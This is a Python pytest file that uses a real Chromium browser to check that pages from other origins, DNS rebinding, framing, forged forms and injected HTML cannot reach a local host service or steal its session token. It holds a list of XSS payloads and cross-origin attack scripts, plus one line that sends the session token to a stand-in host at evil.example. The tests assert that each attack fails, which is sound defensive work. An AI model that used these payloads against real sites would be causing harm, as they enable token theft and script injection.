"""Pages of others in a real browser, which holds the right token by mistake: none reads a word or opens a socket.

What a page is told is what its script finds; what the host answered is what the browser's network stack saw.
"""

from __future__ import annotations

import asyncio
import shutil
from collections.abc import Iterator
from typing import Any

import pytest

from kandev_host.client import Client

from .web.chromium import Chromium, Page
from .web.sites import OPAQUE, Rebound, Site, rebinding, site

ELSEWHERE, REBOUND = "evil.example", "rebound.example"

# Of each attempt: its script, which says how it ended, and what the host may have answered. `host` is its origin,
# `token` the right one. Without an Origin (pictures, scripts) it answers, and forbids the browser to hand that on.
HELPERS = """
const socket = (protocols) => new Promise((tell) => {
  const opened = new WebSocket(host.replace('http', 'ws') + '/ws', protocols);
  opened.onopen = () => tell('OPENED');
  opened.onmessage = (event) => tell(event.data);
  opened.onclose = (event) => tell(`closed ${event.code}`);
});
const asked = async (path, wanted) => {
  try {
    const answer = await fetch(host + path, wanted);
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  } catch (error) { return error.name; }
};
const element = (name, fields) => new Promise((tell) => {
  const made = Object.assign(document.createElement(name), fields);
  made.onload = () => tell('LOADED');
  made.onerror = () => tell('error');
  document.documentElement.append(made);
});
"""
FAILED = "TypeError"
ATTEMPTS: dict[str, tuple[str, str, set[int]]] = {
    "fetch": ("return asked('/schema.json')", FAILED, {403}),
    "fetch-health": ("return asked('/health')", FAILED, {403}),
    "fetch-credentials": ("return asked('/login', {credentials: 'include'})", FAILED, {403}),
    "fetch-no-cors": ("return asked('/schema.json', {mode: 'no-cors'})", FAILED, {200}),
    "post-form": ("return asked('/login', {method: 'POST', body: new URLSearchParams({ticket: 'x'})})", FAILED, {403}),
    "post-text": ("""return asked('/login', {method: 'POST', body: '{"ticket":"x"}'})""", FAILED, {403}),
    "post-no-cors": ("""return asked('/login', {method: 'POST', mode: 'no-cors', body: '{}'})""", FAILED, {403}),
    "post-json": (
        "return asked('/login', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})",
        FAILED, {403},
    ),
    "preflight-token": ("return asked('/metrics', {headers: {Authorization: `Bearer ${token}`}})", FAILED, {403}),
    "preflight-method": ("return asked('/login', {method: 'DELETE'})", FAILED, {403}),
    "socket": ("return socket([])", "closed 1006", {403}),
    "socket-token": ("return socket(['kandev.v1', `bearer.${token}`])", "closed 1006", {403}),
    "script": ("return element('script', {src: host + '/login.js'})", "error", {200}),
    "script-json": ("return element('script', {src: host + '/schema.json'})", "error", {200}),
    "script-module": ("return element('script', {type: 'module', src: host + '/login.js'})", "error", {403}),
    "style": ("return element('link', {rel: 'stylesheet', href: host + '/login.css'})", "error", {200}),
    "picture": ("return element('img', {src: host + '/health'})", "error", {200}),
    "events": (
        """return new Promise((tell) => {
             const source = new EventSource(host + '/health');
             source.onopen = () => tell('OPENED');
             source.onerror = () => tell('error');
           })""",
        "error", {403},
    ),
    "import": ("return import(host + '/login.js').catch((error) => error.name)", FAILED, {403}),
}  # fmt: skip


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Site]:
    with site() as found:
        yield found


@pytest.fixture(scope="module")
def rebound(one_host: Any) -> Iterator[Rebound]:
    with rebinding(int(one_host.url.rpartition(":")[2])) as name:
        yield name


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory, rebound: Rebound) -> Iterator[Chromium]:
    if shutil.which("chromium") is None:
        pytest.skip("chromium is missing: apt-get install chromium")
    browser = Chromium(tmp_path_factory.mktemp("chromium"), {ELSEWHERE: "127.0.0.1", REBOUND: rebound.address})
    yield browser
    browser.close()


@pytest.fixture
def page(chromium: Chromium) -> Iterator[Page]:
    """A tab of a person who was never here."""
    with chromium.profile() as profile:
        yield chromium.page(profile)


@pytest.fixture(scope="module")
def hostile(chromium: Chromium, elsewhere: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Page]]:
    """A page of each kind of origin that is not the host's."""
    file = tmp_path_factory.mktemp("downloads") / "page.html"
    file.write_text("<!doctype html><title>A download</title>")
    addresses = {
        "elsewhere": f"http://{ELSEWHERE}:{elsewhere.port}/",
        "another-port": f"http://127.0.0.1:{elsewhere.port}/",
        "localhost": f"http://localhost:{elsewhere.port}/",
        "sandboxed": f"http://{ELSEWHERE}:{elsewhere.port}{OPAQUE}",
        "data": "data:text/html,<title>No origin</title>",
        "file": file.as_uri(),
    }
    with chromium.profile() as profile:
        pages = {name: chromium.page(profile) for name in addresses}
        for name, page in pages.items():
            page.open(addresses[name])
        yield pages


def attempt(page: Page, host: Any, origin: str, script: str) -> tuple[Any, set[int]]:
    """What the page found, and what the host had answered."""
    page.forget()
    told = page.run(f"const host = {origin!r}, token = {host.token!r};\n{HELPERS}\n{script}")
    return told, set(page.wait_for(page.outcomes))


@pytest.mark.parametrize("name", ATTEMPTS)
@pytest.mark.parametrize("origin", ["elsewhere", "another-port", "localhost", "sandboxed", "data", "file"])
def test_a_page_of_somebody_else_reads_nothing(one_host: Any, hostile: Any, origin: str, name: str) -> None:
    script, wanted, statuses = ATTEMPTS[name]
    told, answered = attempt(hostile[origin], one_host, one_host.url, script)
    assert (told, answered) == (wanted, statuses)


REBOUND_ATTEMPTS = {
    **{
        f"get{path.replace('/', '-')}": f"return asked('{path}')"
        for path in ("/health", "/schema.json", "/login", "/x")
    },
    "metrics": "return asked('/metrics', {headers: {Authorization: `Bearer ${token}`}})",
    "exchange": "return asked('/login', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'})",
    "delete": "return asked('/login', {method: 'DELETE'})",
    "socket": "return socket([])",
    "socket-token": "return socket(['kandev.v1', `bearer.${token}`])",
}


def test_a_name_that_is_bound_anew_is_not_the_hosts(one_host: Any, page: Page, rebound: Rebound) -> None:
    """The page and the host have one origin then, so the page reads what it is answered: that it is not welcome."""
    origin = f"http://{REBOUND}:{one_host.url.rpartition(':')[2]}"
    page.open(f"{origin}/")
    rebound.bound_anew = True
    for name, script in REBOUND_ATTEMPTS.items():
        told, answered = attempt(page, one_host, origin, script)
        assert answered == {421}, name
        assert told.startswith(("basic 421 {", "closed 1006")), name
        assert "version" not in told, name
    page.open(f"{origin}/login")
    assert page.run("return document.getElementById('state')") is None


@pytest.mark.parametrize("name", ["iframe", "object", "embed"])
@pytest.mark.parametrize("path", ["/login", "/health"])
def test_no_page_frames_the_host(one_host: Any, page: Page, elsewhere: Site, name: str, path: str) -> None:
    page.open(f"http://127.0.0.1:{elsewhere.port}/")
    where = "data" if name == "object" else "src"
    page.run(
        f"document.body.append(Object.assign(document.createElement('{name}'), {{{where}: '{one_host.url}{path}'}}))"
    )
    page.wait_for(lambda: page.outcomes() and page.events("Network.loadingFailed"))
    assert page.events("Network.loadingFailed")[-1]["errorText"] == "net::ERR_BLOCKED_BY_RESPONSE"
    assert not [url for url in page.frames() if url.startswith(one_host.url)]


def test_a_form_of_somebody_else_is_refused(one_host: Any, page: Page, elsewhere: Site) -> None:
    page.open(f"http://127.0.0.1:{elsewhere.port}/")
    page.forget()
    page.run(
        f"""const form = Object.assign(document.createElement('form'),
              {{method: 'post', enctype: 'text/plain', action: '{one_host.url}/login'}});
            form.append(Object.assign(document.createElement('input'), {{name: '{{"ticket":"', value: 'x"}}'}}));
            document.body.append(form); form.submit();"""
    )
    page.wait_for(lambda: 403 in page.outcomes())
    assert page.until("return document.body.innerText").startswith('{"code":"FORBIDDEN"')


def test_whoever_opens_the_page_has_no_hold_of_it(one_host: Any, page: Page, elsewhere: Site) -> None:
    page.open(f"http://127.0.0.1:{elsewhere.port}/")
    page.run(f"window.opened = window.open('{one_host.url}/login')")
    assert page.until("return window.opened.closed")
    opened = page.beside(f"{one_host.url}/login")
    assert opened.run("return window.opener") is None


def test_a_service_worker_of_another_port_stays_there(one_host: Any, page: Page, elsewhere: Site) -> None:
    page.open(f"http://127.0.0.1:{elsewhere.port}/")
    page.run("await navigator.serviceWorker.register('/worker.js'); await navigator.serviceWorker.ready")
    page.open(f"http://127.0.0.1:{elsewhere.port}/")
    assert page.run("return document.body.innerText") == "intercepted"
    script = "return navigator.serviceWorker.register(host + '/login.js').catch((error) => error.name)"
    assert page.run(f"const host = {one_host.url!r}; {script}") == "SecurityError"
    page.open(f"{one_host.url}/health")
    assert page.run("return document.body.innerText") == '{"status": "ok"}'


def ask(host: Any, action: str, **payload: Any) -> Any:
    async def asked() -> Any:
        async with Client.connect(host.url, host.token) as client:
            return await client.call(action, payload)

    return asyncio.run(asked())


STATE = "return document.getElementById('state').textContent"


def logged_in(host: Any, page: Page, query: str = "") -> str:
    """The ticket that was used."""
    made = ask(host, "auth.ticket")
    page.open(f"{host.url}/login{query}#{made['ticket']}")
    assert page.until(STATE + ".match(/logged in as/)")
    return str(made["ticket"])


def test_a_link_is_good_once_and_what_it_gives_stays_in_its_tab(one_host: Any, chromium: Chromium, page: Page) -> None:
    said = len(one_host.log())
    page.forget()
    ticket = logged_in(one_host, page)
    session = page.run("return sessionStorage.getItem('kandev.token')")
    assert session not in {None, ticket, one_host.token}
    assert page.run("return [location.href, document.cookie, localStorage.length]") == [f"{one_host.url}/login", "", 0]
    assert chromium.cookies(page) == []
    assert page.complaints() == []
    for secret in (ticket, session):
        assert not [url for url in (*page.asked().values(), *page.history()) if secret in url]
        assert secret not in one_host.log()[said:]
    with chromium.profile() as other:
        second = chromium.page(other)
        second.open(f"{one_host.url}/login#{ticket}")
        assert second.until(STATE + ".match(/used already/)")
        assert second.run("return sessionStorage.length") == 0


def test_the_page_of_a_session_gets_events_until_it_logs_out(one_host: Any, page: Page) -> None:
    logged_in(one_host, page)
    page.run(
        """window.told = [];
           const token = sessionStorage.getItem('kandev.token');
           const socket = new WebSocket(`ws://${location.host}/ws`, ['kandev.v1', `bearer.${token}`]);
           socket.onopen = () => socket.send('{"id":"1","type":"request","action":"events.subscribe","payload":{}}');
           socket.onmessage = (event) => told.push(JSON.parse(event.data).action);
           socket.onclose = (event) => told.push(event.code);"""
    )
    assert page.until("return told.includes('events.subscribe')")
    ask(one_host, "board.create", name="Work")
    assert page.until("return told.includes('board.created')")
    page.run("document.getElementById('leave').click()")
    assert page.until("return told.includes(4401)")
    assert page.until(STATE) == "You are logged out."
    page.open(f"{one_host.url}/login")
    assert page.until(STATE + ".match(/ask for a link/)")


def test_another_port_has_no_use_of_a_session(one_host: Any, chromium: Chromium, elsewhere: Site) -> None:
    """In the same browser, where somebody is logged in: storage and cookies are looked at on both sides."""
    with chromium.profile() as profile:
        own, other = chromium.page(profile), chromium.page(profile)
        logged_in(one_host, own)
        elsewhere.asked.clear()
        own.run(f"location.href = 'http://127.0.0.1:{elsewhere.port}/followed'")
        own.wait_for(lambda: any(path == "/followed" for path, _ in elsewhere.asked))
        other.open(f"http://127.0.0.1:{elsewhere.port}/")
        assert other.run("return sessionStorage.length + localStorage.length + document.cookie.length") == 0
        for path, headers in elsewhere.asked:
            assert {"cookie", "authorization"}.isdisjoint(headers)
            assert path != "/followed" or "referer" not in headers
        assert attempt(other, one_host, one_host.url, ATTEMPTS["socket"][0]) == ("closed 1006", {403})
        assert attempt(other, one_host, one_host.url, ATTEMPTS["fetch-credentials"][0]) == (FAILED, {403})
        third = chromium.page(profile)
        third.open(f"{one_host.url}/login")
        assert third.until(STATE + ".match(/ask for a link/)")


def test_the_page_goes_nowhere_else_whatever_its_address_says(one_host: Any, page: Page, elsewhere: Site) -> None:
    there = f"{ELSEWHERE}:{elsewhere.port}"
    page.forget()
    elsewhere.asked.clear()
    logged_in(one_host, page, f"?gatewayUrl=ws://{there}&origin=http://{there}&next=http://{there}/")
    assert elsewhere.asked == []
    assert {url.split("/")[2] for url in page.asked().values()} == {one_host.url.split("/")[2]}
    page.open(f"{one_host.url}/login?token={one_host.token}")
    assert page.run("return document.body.innerText").startswith('{"code":"UNAUTHORIZED"')


INJECTED = (
    "<img src=/x onerror='window.ran=1'>", "<svg onload='window.ran=1'></svg>",
    "<details open ontoggle='window.ran=1'>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>", "<iframe src='javascript:parent.ran=1'></iframe>",
    "<a id=click href='javascript:window.ran=1'>x</a>", "<form id=send action='{there}'><input name=x></form>",
    "<base href='{there}'>", "<img src='{there}picture'>", "<link rel=stylesheet href='{there}style'>",
    "<object data='{there}object'></object>", "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
)  # fmt: skip


def test_what_is_injected_into_the_page_does_not_run(one_host: Any, page: Page, elsewhere: Site) -> None:
    logged_in(one_host, page)
    elsewhere.asked.clear()
    there = f"http://{ELSEWHERE}:{elsewhere.port}/"
    html = "".join(INJECTED).replace("{there}", there)
    page.forget()
    page.run(
        f"""const box = document.createElement('div'); box.innerHTML = {html!r}; document.body.append(box);
            const scripts = [{{text: 'window.ran=1'}}, {{src: {there!r} + 'script'}}, {{src: 'data:,window.ran=1'}}];
            for (const fields of scripts)
              document.body.append(Object.assign(document.createElement('script'), fields));
            document.getElementById('click').click();
            document.getElementById('send').submit();
            setTimeout('window.ran=1');
            try {{ eval('window.ran=1') }} catch (error) {{ }}
            try {{ new WebSocket({there!r}.replace('http', 'ws')) }} catch (error) {{ }}
            navigator.sendBeacon({there!r});
            await fetch({there!r} + 'leak?' + sessionStorage.getItem('kandev.token')).catch(() => 0);
            await new Promise((done) => requestAnimationFrame(() => setTimeout(done)));"""
    )
    assert page.run("return window.ran") is None
    assert elsewhere.asked == []
    assert page.run("return location.href") == f"{one_host.url}/login"
